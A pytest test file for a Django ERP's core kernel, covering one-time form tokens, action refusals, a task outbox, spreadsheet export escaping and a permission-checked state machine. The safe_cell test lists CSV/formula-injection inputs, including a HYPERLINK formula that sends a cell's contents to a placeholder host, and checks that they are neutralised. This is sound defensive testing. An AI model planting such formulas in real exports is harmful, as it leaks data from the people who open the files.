"""The kernel's shared pieces: ServiceFormView (one-time token, errors on the form), ServiceActionView,
the outbox, the export helper and the state machine declaration."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.messages import get_messages

from hardware_erp.core import outbox
from hardware_erp.core.exports import export_response, safe_cell
from hardware_erp.core.models import Department, FormSubmission, OutboxTask
from hardware_erp.core.states import StateMachine, Transition

pytestmark = pytest.mark.django_db


@pytest.fixture
def kernel_urls(settings):
    settings.ROOT_URLCONF = "tests.core.kernel_urls"


def test_service_form_renders_one_form_with_token_and_save_inside(kernel_urls, client_as):
    client = client_as("general_manager")
    html = client.get("/dept/new/").content.decode()
    assert html.count("<form") - html.count('action="/i18n/') - html.count("logout") >= 1
    form = html[html.index('data-testid="service-form"'):]
    form = form[:form.index("</form>")]
    assert 'name="_once"' in form and 'data-testid="save"' in form


def test_service_form_sent_twice_saves_once(kernel_urls, client_as):
    client = client_as("general_manager")
    data = {"code": "wh2", "name_zh": "二号仓", "_once": "tok-1"}
    first = client.post("/dept/new/", data)
    second = client.post("/dept/new/", data)
    assert first.status_code == second.status_code == 302
    assert first["Location"] == second["Location"] == "/done/"
    assert Department.objects.filter(code="wh2").count() == 1
    assert FormSubmission.objects.get(token="tok-1").result_url == "/done/"
    # a new token is a new record
    client.post("/dept/new/", {**data, "code": "wh3", "_once": "tok-2"})
    assert Department.objects.filter(code="wh3").exists()


def test_service_refusal_lands_on_the_form_and_frees_the_token(kernel_urls, client_as):
    client = client_as("general_manager")
    response = client.post("/dept/new/", {"code": "refused", "name_zh": "x", "_once": "tok-3"})
    assert response.status_code == 200
    assert "the service refuses this code" in response.content.decode()
    assert not FormSubmission.objects.filter(token="tok-3").exists()
    ok = client.post("/dept/new/", {"code": "fine", "name_zh": "x", "_once": "tok-3"})
    assert ok.status_code == 302 and Department.objects.filter(code="fine").exists()


def test_service_action_refusal_is_a_message(kernel_urls, client_as):
    client = client_as("general_manager")
    locked = Department.objects.create(code="locked", name_zh="锁")
    response = client.post(f"/dept/{locked.pk}/rename/")
    assert response.status_code == 302
    assert [str(m) for m in get_messages(response.wsgi_request)] == ["this one is locked"]
    other = Department.objects.create(code="open", name_zh="开")
    client.post(f"/dept/{other.pk}/rename/")
    other.refresh_from_db()
    assert other.name_zh == "改名"
    assert client.get(f"/dept/{other.pk}/rename/").status_code == 405


def test_outbox_keeps_a_task_while_the_broker_is_down_and_drains_it(monkeypatch):
    calls = []
    task = outbox._task("core.prune_form_submissions_task")

    def down(*args, **kwargs):
        raise ConnectionError("broker down")

    monkeypatch.setattr(task, "apply_async", down)
    row = outbox.enqueue_after_commit("core.prune_form_submissions_task", days=3)
    assert not outbox.send(row.pk)
    row.refresh_from_db()
    assert row.attempts == 1 and "broker down" in row.last_error

    monkeypatch.setattr(task, "apply_async", lambda args=None, kwargs=None: calls.append((args, kwargs)))
    assert outbox.drain(older_than_seconds=0) == 1
    assert calls == [([], {"days": 3})]
    assert not OutboxTask.objects.exists()


def test_outbox_sends_after_commit(django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        outbox.enqueue_after_commit("core.prune_form_submissions_task")
    assert not OutboxTask.objects.exists()  # sent (eagerly in tests) and removed


@pytest.mark.parametrize(("value", "expected"), [
    ('=HYPERLINK("http://x"&B2,"Invoice")', "'=HYPERLINK(\"http://x\"&B2,\"Invoice\")"),
    ("+86 138", "'+86 138"), ("@SUM(A1)", "'@SUM(A1)"), ("-cmd", "'-cmd"), ("\t=x", "'=x"),
    ('<span class="text-danger">-1</span>', Decimal("-1")), ("-298.95", Decimal("-298.95")),
    (Decimal("-5.00"), Decimal("-5.00")), (-3, -3), ("五金 &amp; 工具", "五金 & 工具"), (None, ""),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_export_response_xlsx_keeps_text_as_text():
    response = export_response(["name", "balance"], [['=1+1', Decimal("-2.50")]], filename="x.xlsx", fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].value == "'=1+1" and sheet["A2"].data_type == "s"
    assert float(sheet["B2"].value) == -2.5


def test_export_response_csv():
    response = export_response(["客户"], [["@x"]], filename="x.csv", fmt="csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["客户"], ["'@x"]]


def test_state_machine_checks_source_and_permission(make_user):
    machine = StateMachine([Transition({"draft"}, "done", "core.access_crm", "Finish"),
                            Transition({"done"}, "draft", "core.access_crm", "Reopen", manual=False)])

    class Thing:
        status = "draft"

        def __str__(self):
            return "Thing 1"

    rep, clerk = make_user("sales_rep"), make_user("warehouse_clerk")
    assert machine.check(Thing(), "done", rep).label == "Finish"
    [action] = machine.actions(Thing(), clerk)
    assert not action.allowed and action.reason
    [action] = machine.actions(Thing(), rep, extra_check=lambda t: "you opened it")
    assert not action.allowed and action.reason == "you opened it"
